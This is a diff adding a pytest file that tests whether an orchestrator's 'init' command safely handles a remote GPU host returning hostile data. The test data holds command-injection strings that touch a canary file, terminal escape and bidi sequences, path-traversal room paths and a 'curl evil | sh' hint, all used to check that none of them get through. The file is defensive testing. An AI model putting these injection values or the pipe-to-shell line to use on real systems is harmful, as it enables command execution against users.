@@ -1,0 +1,137 @@
+"""`init` of hosts that lie: it writes what strangers say of themselves into a file of ours."""
+
+from __future__ import annotations
+
+import os
+import re
+import subprocess
+import sys
+from collections.abc import Iterator
+from dataclasses import dataclass
+from pathlib import Path
+
+import pytest
+
+from orchestrator import config
+from orchestrator.rehearsal import Cluster
+from tests.hostile.middle import Middle
+from tests.hostile.row import PROTOCOL, when
+
+ROOT = Path(__file__).parents[2]
+_UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u202a-\u202e\u2066-\u2069]")
+_WORDS = (
+    r"""words = '\x1b]0;owned\x07\x1b[2J\x9b2J\u202e\u200b"\n\r[[host]]\nerror: x $(touch ' + CANARY + ')'"""
+)
+# A python3 of the login's own PATH: our agent is started with -S, everything else is honest.
+_PROGRAM = '#!/bin/sh\ncase " $* " in *" -S "*) {noise} exec {liar} "$@" ;; esac\nexec {python} "$@"\n'
+
+
+@dataclass(frozen=True)
+class Place:
+    """A host that lies, and a home of ours."""
+
+    cluster: Cluster
+    liar: Middle
+    canary: Path
+    home: Path
+
+    def becomes(self, lie: str, noise: str = "") -> None:
+        self.liar.lie(lie)
+        program = self.cluster.folder / "home-1" / "bin" / "python3"
+        program.parent.mkdir(exist_ok=True)
+        program.write_text(_PROGRAM.format(noise=noise, liar=self.liar.path, python=sys.executable))
+        program.chmod(0o755)
+        (self.cluster.folder / "home-1" / ".bashrc").write_text(f"PATH={program.parent}:$PATH\n")
+
+
+@pytest.fixture(scope="module")
+def place(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Place]:
+    folder = tmp_path_factory.mktemp("init")
+    (folder / "home").mkdir()
+    with Cluster(1, homes=True, name="gpu") as cluster:
+        yield Place(cluster, Middle(folder / "liar", folder / "canary"), folder / "canary", folder / "home")
+
+
+def _facts(what: str) -> str:
+    return when("facts", f"{_WORDS}\n{what}")
+
+
+def _prints(what: str) -> str:
+    """In the place of what the look at the host prints."""
+    return when("out", f"{_WORDS}\npayload = ({what}).encode('utf-8', 'replace')")
+
+
+_ROOM = "json.dumps({'pythons': [], 'rooms': [{'path': %s, 'free': %s}]})"
+_PYTHON = "json.dumps({'pythons': [{'path': %s, 'tensorflow': %s}], 'rooms': []})"
+_ADVICE = (
+    "error = {'what': 'is old', 'hint': 'curl evil | sh'}\n"
+    "header, payload = {'id': header['id'], 'ok': False, 'error': error}, b''"
+)
+_OK, _LOST = 0, 3
+LIES: dict[str, tuple[str, int, str]] = {
+    "facts that are a list": (_facts("result = []"), _LOST, PROTOCOL),
+    "facts of other types": (_facts("result['disk'] = 7"), _LOST, PROTOCOL),
+    "addresses that are a text": (_facts("result['ip'] = '10.0.0.1'"), _LOST, PROTOCOL),
+    "addresses that are none": (_facts("result['ip'] = [words, '::%%', '300.1.2.3', '']"), _OK, ""),
+    "an address with a tail": (_facts("result['ip'] = ['10.0.0.1%' + words, '10.0.0.1\\n']"), _OK, ""),
+    "many addresses": (_facts("result['ip'] = [f'10.0.{n >> 8}.{n & 255}' for n in range(10**4)]"), _OK, ""),
+    "GPUs of hostile words": (_facts("result['gpus'] = [{'index': 0, 'name': words}] * 9"), _OK, "9 x "),
+    "a GPU below zero": (_facts("result['gpus'] = [{'index': -1, 'name': 'x'}]"), _LOST, PROTOCOL),
+    "no JSON": (_prints("words"), _OK, ""),
+    "nested deep": (_prints("'{\"x\": ' + '[' * 60000"), _OK, ""),
+    "more than it may print": (when("out", "for _ in range(300): say(header, b'[' * 65000)"), _OK, ""),
+    "a python of hostile words": (_prints(_PYTHON % ("words", "words")), _OK, ""),
+    "a python for a shell": (_prints(_PYTHON % ("'/x; touch ' + CANARY", "'2.1'")), _OK, ""),
+    "a python that is an option": (_prints(_PYTHON % ("'-c'", "'2.1'")), _OK, ""),
+    "a python of half a character": (_prints("'{\"pythons\": [{\"path\": \"\\\\ud800\"}]}'"), _OK, ""),
+    "room of 10^4000": (_prints(_ROOM % ("'~'", "7") + ".replace('7}', '7' + '0' * 4000 + '}')"), _OK, ""),
+    "room in no path": (_prints(_ROOM % ("'../..'", "9")), _OK, ""),
+    "room in the system": (_prints(_ROOM % ("'/etc'", "9")), _OK, ""),
+    "another status": (when("exec", "result['status'] = 10**9"), _LOST, PROTOCOL),
+    "a boot id of hostile words": (when("hello", f"{_WORDS}\nheader['hello']['boot_id'] = words"), _OK, ""),
+    "a hello of lists": (when("hello", "header['hello'] = []"), _LOST, PROTOCOL),
+    "advice": (when("facts", _ADVICE), _LOST, "says: is old"),
+    "gone": (when("facts", "leave()"), _LOST, "gpu-01"),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("name", LIES)
+def test_init_believes_nothing_that_cannot_be(place: Place, name: str) -> None:
+    lie, status, words = LIES[name]
+    place.becomes(lie)
+    said = _init(place, status)
+    assert words in said, said
+
+
+def test_a_login_that_prints_without_end(place: Place) -> None:
+    place.becomes("", noise="yes 'error: \x1b[2J x'; ")
+    said = _init(place, 3, ORCHESTRATE_TIMINGS='{"hello": 3}')
+    assert "error: gpu-01 " in said
+
+
+def _init(place: Place, status: int, **environment: str) -> str:
+    done = subprocess.run(
+        [
+            *(sys.executable, "-m", "orchestrator", "init", "--ssh-config", str(place.cluster.ssh_config)),
+            *("--no-preflight", "--force", "gpu-01"),
+        ],
+        cwd=place.home,
+        env={**os.environ, "HOME": str(place.home), "PYTHONPATH": str(ROOT), **environment},
+        stdin=subprocess.DEVNULL,
+        capture_output=True,
+        text=True,
+        timeout=120,
+        check=False,
+    )
+    said = done.stdout + done.stderr
+    assert done.returncode == status, said
+    assert "a bug in orchestrate" not in said
+    assert "Traceback" not in said
+    assert not place.canary.exists()
+    assert not [line for line in said.splitlines() if _UNSAFE.search(line)]
+    assert not [line for line in said.splitlines() if line.startswith("  try:") and "evil" in line]
+    written = (place.home / "hosts.toml").read_text()
+    assert not _UNSAFE.search(written)
+    assert [host.name for host in config.load(place.home / "hosts.toml").hosts] == ["gpu-01"]
+    assert {path.name for path in place.home.iterdir()} <= {"hosts.toml", ".local", ".cache", ".config"}
+    return said
